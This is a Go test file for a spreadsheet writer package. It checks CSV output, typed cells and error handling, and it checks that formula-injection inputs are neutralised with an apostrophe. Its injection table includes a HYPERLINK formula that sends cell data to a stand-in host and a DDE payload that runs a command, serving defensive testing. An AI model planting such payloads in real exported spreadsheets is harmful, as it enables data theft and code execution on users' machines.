package sheet

import (
	"bytes"
	"encoding/csv"
	"errors"
	"math"
	"slices"
	"strings"
	"testing"
	"time"
	"unicode/utf8"
)

// write writes one sheet with the given constructor and returns its bytes.
func write(t testing.TB, open func(*bytes.Buffer, []string) (Writer, error), header []string, rows ...[]Cell) []byte {
	t.Helper()
	var b bytes.Buffer
	w, err := open(&b, header)
	if err != nil {
		t.Fatal(err)
	}
	for _, row := range rows {
		if err := w.Write(row); err != nil {
			t.Fatal(err)
		}
	}
	if err := w.Close(); err != nil {
		t.Fatal(err)
	}
	return b.Bytes()
}

func asCSV(b *bytes.Buffer, header []string) (Writer, error) { return CSV(b, header) }

// readCSV reads back what CSV wrote, without the byte order mark.
func readCSV(t testing.TB, b []byte) [][]string {
	t.Helper()
	rest, ok := bytes.CutPrefix(b, []byte("\uFEFF"))
	if !ok {
		t.Fatalf("no byte order mark: %q", b)
	}
	rows, err := csv.NewReader(bytes.NewReader(rest)).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	return rows
}

func TestCSVBytes(t *testing.T) {
	tokyo := time.FixedZone("JST", 9*3600)
	got := string(write(t, asCSV, []string{"回答", "n"},
		[]Cell{Text("遅い, とても"), Int(3)},
		[]Cell{Text("a \"b\"\nc"), Number(-0.25)},
		[]Cell{Date(20_000)},
		[]Cell{{}, Time(time.Date(2026, 11, 23, 10, 5, 59, 0, tokyo))},
		nil,
	))
	want := "\uFEFF回答,n\r\n" +
		"\"遅い, とても\",3\r\n" +
		"\"a \"\"b\"\"\nc\",-0.25\r\n" +
		"2024-10-04,\r\n" +
		",2026-11-23 10:05\r\n" +
		",\r\n"
	if got != want {
		t.Errorf("got  %q\nwant %q", got, want)
	}
}

// injections are texts and whether a spreadsheet may take them for a formula.
var injections = []struct {
	text   string
	danger bool
}{
	{"=1+1", true},
	{"=HYPERLINK(\"http://example.com?x=\"&A1,\"click\")", true},
	{"=cmd|' /C calc'!A0", true},
	{"+1+1", true},
	{"-1+1", true},
	{"-5", true},
	{"@SUM(A1:A9)", true},
	{"\t=1", true},
	{"\tplain", true},
	{"\r=1", true},
	{"\nplain", true},
	{"\rplain", true},
	{"  =1", true},
	{"　=1", true}, // ideographic space
	{"\u00a0=1", true},
	{"\u200b=1", true}, // zero width space
	{"\ufeff=1", true},
	{" \t=1", true},
	{"\x00=1", true},
	{"＝1+1", true},
	{"＋81 3-1234-5678", true},
	{"－5", true},
	{"＠sum", true},
	{"　＝1", true},
	{"+81 3-1234-5678", true},
	{"-", true},
	{"- slow to load", true},
	{"@support are great", true},
	{"", false},
	{"plain", false},
	{" plain", false},
	{"1+1", false},
	{"5", false},
	{"a=b", false},
	{"'=1", false},
	{"ー長音", false},
	{"−5", false}, // U+2212 is a letter to spreadsheets
	{"03-1234-5678", false},
	{"user@example.com", false},
	{"”=1", false},
	{"値上げ=反対", false},
}

func TestCSVDefusesFormulas(t *testing.T) {
	for _, c := range injections {
		got := readCSV(t, write(t, asCSV, []string{"head", c.text}, []Cell{Int(1), Text(c.text)}))
		want := strings.ReplaceAll(c.text, "\r\n", "\n")
		if c.danger {
			want = "'" + want
		}
		for i, row := range got {
			if row[1] != want {
				t.Errorf("%q: row %d has %q, want %q", c.text, i, row[1], want)
			}
		}
	}
}

func TestTyped(t *testing.T) {
	for s, want := range map[string]string{
		"-5": "-5", "0.25": "0.25", "1.50": "1.50", "0": "0", "-0": "-0", "500000": "500000",
		"123456789012345": "123456789012345",
		"+5":              "'+5", "-5-": "'-5-", "-": "'-", "--5": "'--5", "-.5": "'-.5",
		"007": "007", "1e5": "1e5", "1,200": "1,200", "5.": "5.", "1234567890123456": "1234567890123456",
	} {
		if got := readCSV(t, write(t, asCSV, []string{"a", "b"}, []Cell{Typed(s)}))[1][0]; got != want {
			t.Errorf("CSV of Typed(%q) = %q, want %q", s, got, want)
		}
	}
	for s, want := range map[string]kind{
		"-5": number, "0.25": number, "1.50": number, "123456789012345": number,
		"007": text, "+5": text, "1e5": text, "1,200": text, "1234567890123456": text,
		"NaN": text, "Inf": text, "0x10": text, "１２": text, "": empty,
	} {
		if got := Typed(s).kind; got != want {
			t.Errorf("Typed(%q) is of kind %d, want %d", s, got, want)
		}
	}
}

func TestNumberWithoutValueIsEmpty(t *testing.T) {
	for _, f := range []float64{math.NaN(), math.Inf(1), math.Inf(-1)} {
		if Number(f) != (Cell{}) {
			t.Errorf("Number(%v) is not empty", f)
		}
	}
}

func TestCSVOneEmptyColumn(t *testing.T) {
	got := readCSV(t, write(t, asCSV, []string{"only"}, []Cell{{}}, nil, []Cell{Text("x")}))
	want := [][]string{{"only"}, {""}, {""}, {"x"}}
	if !slices.EqualFunc(got, want, slices.Equal) {
		t.Errorf("got %q, want %q", got, want)
	}
}

func TestRowWiderThanHeader(t *testing.T) {
	for name, open := range map[string]func(*bytes.Buffer, []string) (Writer, error){"csv": asCSV, "xlsx": asXLSX} {
		w, err := open(&bytes.Buffer{}, []string{"a"})
		if err != nil {
			t.Fatal(err)
		}
		err = w.Write([]Cell{Int(1), Int(2)})
		if err == nil || !strings.Contains(err.Error(), "found 2") {
			t.Errorf("%s: got %v, want an error that names the 2 cells", name, err)
		}
		if again := w.Close(); again != err {
			t.Errorf("%s: Close returned %v, want the error of Write again", name, again)
		}
	}
}

// full is a disk that is full after n bytes.
type full struct{ n int }

var errFull = errors.New("no space left")

func (f *full) Write(p []byte) (int, error) {
	if f.n -= len(p); f.n < 0 {
		return 0, errFull
	}
	return len(p), nil
}

func TestCSVFullDisk(t *testing.T) {
	w, err := CSV(&full{n: 100_000}, []string{"a"})
	if err != nil {
		t.Fatal(err)
	}
	row := []Cell{Text(strings.Repeat("x", 100))}
	for range 10_000 {
		if err = w.Write(row); err != nil {
			break
		}
	}
	if !errors.Is(err, errFull) || !errors.Is(w.Close(), errFull) {
		t.Errorf("got %v, want that the disk is full", err)
	}
}

// FuzzCSV: whatever is written is read back by encoding/csv, but for the
// defusing apostrophe and the line breaks that reader unites; and no cell of
// text is left that begins like a formula.
func FuzzCSV(f *testing.F) {
	for _, c := range injections {
		f.Add(c.text, "b")
	}
	f.Add("a\"b,c\r\nd", "\xff\xfe")
	f.Fuzz(func(t *testing.T, a, b string) {
		got := readCSV(t, write(t, asCSV, []string{"a", "b"}, []Cell{Text(a), Text(b)}))[1]
		for i, s := range []string{a, b} {
			if !utf8.ValidString(s) {
				s = strings.ToValidUTF8(s, "\uFFFD")
			}
			want := strings.ReplaceAll(s, "\r\n", "\n")
			if formula(s) {
				want = "'" + want
			}
			if got[i] != want {
				t.Errorf("%q was read back as %q, want %q", s, got[i], want)
			}
			if formula(got[i]) {
				t.Errorf("%q is still a formula", got[i])
			}
		}
	})
}

// BenchmarkCSV writes rows of 12 cells, one of them a Japanese sentence.
func BenchmarkCSV(b *testing.B) {
	w, err := CSV(&full{n: math.MaxInt}, make([]string, 12))
	if err != nil {
		b.Fatal(err)
	}
	row := slices.Repeat([]Cell{Text("detractor"), Typed("500000"), Date(20_000)}, 4)
	row[0] = Text("値上げが急で、\"説明\"もありませんでした。サポートの返事も遅いです。")
	for b.Loop() {
		if err := w.Write(row); err != nil {
			b.Fatal(err)
		}
	}
	b.ReportMetric(float64(b.N)/b.Elapsed().Seconds(), "rows/s")
}
